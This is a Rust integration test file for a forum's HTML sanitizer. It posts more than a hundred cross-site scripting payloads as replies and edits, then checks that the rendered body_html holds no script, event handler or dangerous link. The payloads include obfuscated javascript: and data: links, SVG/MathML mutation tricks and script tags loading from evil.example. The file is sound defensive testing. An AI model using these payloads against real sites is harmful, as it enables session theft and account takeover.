//! Cross-site scripting: whatever a member writes, the rendered `body_html` carries no
//! script, no active element, no event handler and no dangerous link.

use reqwest::StatusCode;
use serde_json::json;

use crate::both_backends;
use crate::helpers::{expect_json, TestApp};

const PAYLOADS: &[&str] = &[
    // Script tags, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "\"><script>alert(document.cookie)</script>",
    "<scrİpt>alert(1)</scrİpt>",
    "text before <script type=\"module\">import('//evil.example')</script> after",
    // Images and other elements with event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=\"javascript:alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click me</x>",
    "<a href=https://example.org onclick=alert(1)>x</a>",
    "<p onmouseover=alert(1)>hover</p>",
    "<strong onclick=alert(1)>bold</strong>",
    "**bold<img src=x onerror=alert(1)>**",
    "<isindex type=image src=1 onerror=alert(1)>",
    // SVG and MathML, including mutation tricks.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // Frames, styles, plugins, forms, metadata.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    // HTML links with dangerous or obfuscated schemes.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    // Markdown links with dangerous or obfuscated schemes.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript:alert(1) \"title\")",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav&#9;ascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](javascript://%0aalert(1))",
    "[click](\njavascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](javascript:alert`1`)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref][x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "- [in a list](javascript:alert(1))\n- [and](vbscript:x)",
    "> [in a quote](javascript:alert(1))",
    "| a | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
    // Attribute break-outs through link destinations and titles.
    "[x](https://example.org\" onmouseover=\"alert(1))",
    "[x](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.org/'onmouseover='alert(1))",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    // Markdown images.
    "![x](javascript:alert(1))",
    "![x](https://example.org/x.png\" onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](https://example.org/x.png)",
    "![x](x onerror=alert(1))",
    // Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    // Unicode tricks.
    "[click](java\u{200B}script:alert(1))",
    "[click](\u{FF4A}avascript:alert(1))",
    "[click](\u{2028}javascript:alert(1))",
    "[click](%0Ajavascript:alert(1))",
    "\u{FE64}script\u{FE65}alert(1)\u{FE64}/script\u{FE65}",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "<scr\u{200B}ipt>alert(1)</script>",
    // Code, comments, CDATA and entities.
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "    <iframe src=javascript:alert(1)>",
    "<!-- --><script>alert(1)</script> -->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
];

/// Tags the server's sanitizer allows.
const ALLOWED_TAGS: &[&str] = &[
    "a",
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

const REL: &str = "nofollow ugc noopener";

#[derive(Debug)]
struct Tag {
    name: String,
    closing: bool,
    attributes: Vec<(String, String)>,
    raw: String,
}

/// Splits HTML into its tags, the way a browser's tokenizer finds them: `<` followed by
/// a letter opens a tag, `</` + letter a closing tag, `<!` and `<?` markup declarations.
/// Attribute values may be double-, single- or un-quoted.
fn scan_tags(html: &str) -> Result<Vec<Tag>, String> {
    let chars: Vec<char> = html.chars().collect();
    let mut tags = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '<' {
            i += 1;
            continue;
        }
        let start = i;
        let next = chars.get(i + 1).copied();
        let (closing, name_start) = match next {
            Some('/') if chars.get(i + 2).is_some_and(char::is_ascii_alphabetic) => (true, i + 2),
            Some(c) if c.is_ascii_alphabetic() => (false, i + 1),
            Some('!' | '?') => {
                let end = chars[i..]
                    .iter()
                    .position(|&c| c == '>')
                    .map_or(chars.len(), |p| i + p + 1);
                tags.push(Tag {
                    name: "!".into(),
                    closing: false,
                    attributes: Vec::new(),
                    raw: chars[start..end].iter().collect(),
                });
                i = end;
                continue;
            }
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = name_start;
        while j < chars.len() && !chars[j].is_whitespace() && chars[j] != '/' && chars[j] != '>' {
            j += 1;
        }
        let name: String = chars[name_start..j]
            .iter()
            .collect::<String>()
            .to_ascii_lowercase();
        let mut attributes = Vec::new();
        loop {
            while j < chars.len() && (chars[j].is_whitespace() || chars[j] == '/') {
                j += 1;
            }
            if j >= chars.len() {
                return Err(format!(
                    "unterminated tag: {}",
                    chars[start..].iter().collect::<String>()
                ));
            }
            if chars[j] == '>' {
                j += 1;
                break;
            }
            let attr_start = j;
            while j < chars.len()
                && !chars[j].is_whitespace()
                && !matches!(chars[j], '/' | '>' | '=')
            {
                j += 1;
            }
            let attr_name: String = chars[attr_start..j]
                .iter()
                .collect::<String>()
                .to_ascii_lowercase();
            while j < chars.len() && chars[j].is_whitespace() {
                j += 1;
            }
            let mut value = String::new();
            if chars.get(j) == Some(&'=') {
                j += 1;
                while j < chars.len() && chars[j].is_whitespace() {
                    j += 1;
                }
                match chars.get(j) {
                    Some(&quote) if quote == '"' || quote == '\'' => {
                        j += 1;
                        let value_start = j;
                        while j < chars.len() && chars[j] != quote {
                            j += 1;
                        }
                        value = chars[value_start..j.min(chars.len())].iter().collect();
                        j += 1;
                    }
                    _ => {
                        let value_start = j;
                        while j < chars.len() && !chars[j].is_whitespace() && chars[j] != '>' {
                            j += 1;
                        }
                        value = chars[value_start..j].iter().collect();
                    }
                }
            }
            attributes.push((attr_name, value));
        }
        tags.push(Tag {
            name,
            closing,
            attributes,
            raw: chars[start..j.min(chars.len())].iter().collect(),
        });
        i = j;
    }
    Ok(tags)
}

/// Decodes the character references an attribute value may hold.
fn decode_entities(value: &str) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp..];
        let end = rest.find(';').filter(|&e| e <= 12);
        let decoded = end.and_then(|end| {
            let entity = &rest[1..end];
            let code = if let Some(hex) = entity
                .strip_prefix("#x")
                .or_else(|| entity.strip_prefix("#X"))
            {
                u32::from_str_radix(hex, 16).ok()
            } else if let Some(dec) = entity.strip_prefix('#') {
                dec.parse().ok()
            } else {
                match entity {
                    "amp" => Some(38),
                    "lt" => Some(60),
                    "gt" => Some(62),
                    "quot" => Some(34),
                    "apos" => Some(39),
                    "colon" => Some(58),
                    "tab" | "Tab" => Some(9),
                    "newline" | "NewLine" => Some(10),
                    "nbsp" => Some(160),
                    _ => None,
                }
            };
            code.and_then(char::from_u32).map(|c| (c, end))
        });
        if let Some((c, end)) = decoded {
            out.push(c);
            rest = &rest[end + 1..];
        } else {
            out.push('&');
            rest = &rest[1..];
        }
    }
    out.push_str(rest);
    out
}

/// What is wrong with an href: a dangerous scheme after the clean-up a browser does
/// (strip leading/trailing controls and spaces, drop tabs and newlines anywhere).
fn href_problems(href: &str) -> Vec<String> {
    let decoded = decode_entities(href);
    let cleaned: String = decoded
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase();
    let mut problems = Vec::new();
    for scheme in ["javascript:", "vbscript:", "data:"] {
        if cleaned.contains(scheme) {
            problems.push(format!("href contains {scheme} {href:?}"));
        }
    }
    let mut chars = cleaned.chars();
    if chars.next().is_some_and(|c| c.is_ascii_alphabetic()) {
        let scheme_len = cleaned
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
            .unwrap_or(cleaned.len());
        if cleaned[scheme_len..].starts_with(':') {
            let scheme = &cleaned[..scheme_len];
            if !matches!(scheme, "http" | "https" | "mailto") {
                problems.push(format!("href has scheme {scheme}: {href:?}"));
            }
        }
    }
    problems
}

/// Whether `raw` (one tag's text) has `on…=` after white space, a slash or a quote,
/// outside quoted attribute values (where it is only text).
fn raw_event_handler(raw: &str) -> bool {
    let mut outside = String::new();
    let mut quote: Option<char> = None;
    let mut last_significant = ' ';
    for c in raw.chars() {
        match quote {
            Some(q) if c == q => {
                quote = None;
                outside.push(c);
            }
            Some(_) => {}
            None if (c == '"' || c == '\'') && last_significant == '=' => {
                quote = Some(c);
                outside.push(c);
            }
            None => outside.push(c),
        }
        if !c.is_whitespace() {
            last_significant = c;
        }
    }
    let lower = outside.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    (1..bytes.len().saturating_sub(2)).any(|i| {
        let before = bytes[i - 1];
        if !(before.is_ascii_whitespace() || matches!(before, b'/' | b'"' | b'\''))
            || &bytes[i..i + 2] != b"on"
        {
            return false;
        }
        let mut j = i + 2;
        let letters = j;
        while j < bytes.len() && bytes[j].is_ascii_alphabetic() {
            j += 1;
        }
        while j < bytes.len() && bytes[j].is_ascii_whitespace() {
            j += 1;
        }
        j > letters && bytes.get(j) == Some(&b'=')
    })
}

/// Everything unsafe about a piece of rendered HTML; empty when it is safe.
fn html_problems(html: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let lower = html.to_ascii_lowercase();
    for needle in [
        "<script", "<iframe", "<svg", "<img", "<style", "<object", "<embed", "<math", "<form",
        "<base", "<meta", "<link",
    ] {
        if lower.contains(needle) {
            problems.push(format!("contains {needle}"));
        }
    }
    let tags = match scan_tags(html) {
        Ok(tags) => tags,
        Err(e) => {
            problems.push(e);
            return problems;
        }
    };
    for tag in &tags {
        if tag.name == "!" {
            problems.push(format!("markup declaration {}", tag.raw));
            continue;
        }
        if !ALLOWED_TAGS.contains(&tag.name.as_str()) {
            problems.push(format!("tag <{}> is not allowed", tag.name));
        }
        if raw_event_handler(&tag.raw) {
            problems.push(format!("event handler in {}", tag.raw));
        }
        if tag.closing {
            continue;
        }
        for (name, value) in &tag.attributes {
            if name.starts_with("on") {
                problems.push(format!("event handler attribute {name} in {}", tag.raw));
            }
            let allowed = match tag.name.as_str() {
                "a" => matches!(name.as_str(), "href" | "rel" | "title"),
                "ol" => name == "start",
                _ => false,
            };
            if !allowed {
                problems.push(format!("attribute {name} on <{}>", tag.name));
            }
            if name == "href" || name == "src" || name == "action" {
                problems.extend(href_problems(value));
            }
        }
        if tag.name == "a" {
            let rel = tag
                .attributes
                .iter()
                .find(|(n, _)| n == "rel")
                .map(|(_, v)| v.as_str());
            if rel != Some(REL) {
                problems.push(format!("link without rel=\"{REL}\": {}", tag.raw));
            }
        }
    }
    problems
}

/// Records what is unsafe about `html` in `failures` (so that one run reports every
/// failing payload, not only the first).
fn check_safe(failures: &mut Vec<String>, html: &str, payload: &str, source: &str) {
    let problems = html_problems(html);
    if !problems.is_empty() {
        failures.push(format!(
            "{source}: payload {payload:?} rendered as {html:?}: {problems:?}"
        ));
    }
}

/// The checker itself catches what it should, so a passing test means something.
#[test]
fn the_checker_finds_unsafe_html() {
    for bad in [
        "<script>alert(1)</script>",
        "<p><img src=x onerror=alert(1)></p>",
        "<p onclick=\"x\">a</p>",
        "<p title='a' onmouseover = 'x'>a</p>",
        "<a title=\"a\"onclick=\"x\" rel=\"nofollow ugc noopener\">x</a>",
        "<a href=\"javascript:alert(1)\" rel=\"nofollow ugc noopener\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\" rel=\"nofollow ugc noopener\">x</a>",
        "<a href=\" JAVA&#10;SCRIPT:alert(1)\" rel=\"nofollow ugc noopener\">x</a>",
        "<a href=\"data:text/html,x\" rel=\"nofollow ugc noopener\">x</a>",
        "<a href=\"vbscript:x\" rel=\"nofollow ugc noopener\">x</a>",
        "<a href=\"https://example.org\">no rel</a>",
        "<a href=\"https://example.org\" rel=\"nofollow\">weak rel</a>",
        "<svg/onload=alert(1)>",
        "<IFRAME src=x></IFRAME>",
        "<p style=\"color:red\">x</p>",
        "<!-- x --><p>a</p>",
        "<p>unterminated <a href=\"x\"",
        "<div>not allowed</div>",
    ] {
        assert!(!html_problems(bad).is_empty(), "missed {bad}");
    }
    for good in [
        "<p>Hello &lt;script&gt;alert(1)&lt;/script&gt; world</p>\n",
        "<p><a href=\"https://example.org\" rel=\"nofollow ugc noopener\">x</a></p>",
        "<p><a href=\"mailto:jo@example.org\" rel=\"nofollow ugc noopener\">jo</a></p>",
        "<p><a href=\"java%E2%80%8Bscript:alert(1)\" rel=\"nofollow ugc noopener\">relative</a></p>",
        "<p><a rel=\"nofollow ugc noopener\">no href</a> and on=1 in text</p>",
        "<p><a href=\"https://example.org\" title=\"t&quot; onmouseover=&quot;x\" rel=\"nofollow ugc noopener\">x</a></p>",
        "<ol start=\"3\"><li>three</li></ol><pre><code>&lt;img onerror=x&gt;\n</code></pre>",
    ] {
        assert_eq!(html_problems(good), Vec::<String>::new(), "{good}");
    }
}

async fn replies_render_safely(app: TestApp) {
    let admin = app.admin("site_admin").await;
    app.community(&admin, "open-garden", "public", "open").await;
    // A moderator posts the payloads: screening exempts moderators, and what is under test
    // here is rendering, not screening.
    let member = app.register("member_max").await;
    app.appoint_moderator(&admin, "open-garden", "member_max")
        .await;
    let (thread, first) = app
        .thread(
            &member,
            "open-garden",
            "Formatting help",
            "Hello <script>alert('first post')</script> and [ok](https://example.org)",
        )
        .await;
    assert!(PAYLOADS.len() >= 50, "{} payloads", PAYLOADS.len());
    let distinct: std::collections::HashSet<&&str> = PAYLOADS.iter().collect();
    assert_eq!(distinct.len(), PAYLOADS.len(), "payloads are distinct");

    let mut failures = Vec::new();
    let mut created = Vec::new();
    for payload in PAYLOADS {
        let post = app.reply(&member, &thread, payload).await;
        let html = post["body_html"].as_str().expect("body_html").to_owned();
        check_safe(&mut failures, &html, payload, "POST response");
        assert_eq!(
            post["body"],
            payload.trim(),
            "the author gets the source back to edit"
        );
        created.push((post["id"].as_str().expect("id").to_owned(), *payload, html));
    }

    // Read everything back, a page at a time.
    let mut posts = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/threads/{thread}?limit=100&cursor={c}"),
            None => format!("/api/v1/threads/{thread}?limit=100"),
        };
        let page = app.get_json(&path, None).await;
        posts.extend(page["posts"].as_array().expect("posts").iter().cloned());
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    assert_eq!(posts.len(), PAYLOADS.len() + 1);
    let first_html = posts[0]["body_html"].as_str().expect("html");
    assert_eq!(posts[0]["id"], first.as_str());
    check_safe(&mut failures, first_html, "first post", "GET thread");
    assert!(
        first_html.contains("<a href=\"https://example.org\" rel=\"nofollow ugc noopener\">ok</a>"),
        "ordinary links still work: {first_html}"
    );
    assert!(
        first_html.contains("&lt;script&gt;"),
        "raw HTML is shown as text: {first_html}"
    );
    for (post, (id, payload, html)) in posts[1..].iter().zip(&created) {
        assert_eq!(post["id"], id.as_str());
        let stored = post["body_html"].as_str().expect("html");
        check_safe(&mut failures, stored, payload, "GET thread");
        assert_eq!(stored, html, "GET shows what POST returned");
        assert_eq!(
            post["body"],
            serde_json::Value::Null,
            "anonymous readers get no source"
        );
    }

    // Edits go through the same sanitizer.
    let (id, _, _) = &created[0];
    for payload in PAYLOADS.iter().step_by(7) {
        let response = app
            .patch(
                &format!("/api/v1/posts/{id}"),
                Some(&member),
                json!({"body": payload}),
            )
            .await;
        let edited = expect_json(response, StatusCode::OK).await;
        check_safe(
            &mut failures,
            edited["post"]["body_html"].as_str().expect("html"),
            payload,
            "PATCH response",
        );
    }
    let view = app
        .get_json(&format!("/api/v1/threads/{thread}?limit=2"), None)
        .await;
    check_safe(
        &mut failures,
        view["posts"][1]["body_html"].as_str().expect("html"),
        "last edit",
        "GET after edit",
    );
    assert!(
        failures.is_empty(),
        "{} unsafe renderings:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

both_backends!(replies_render_safely);
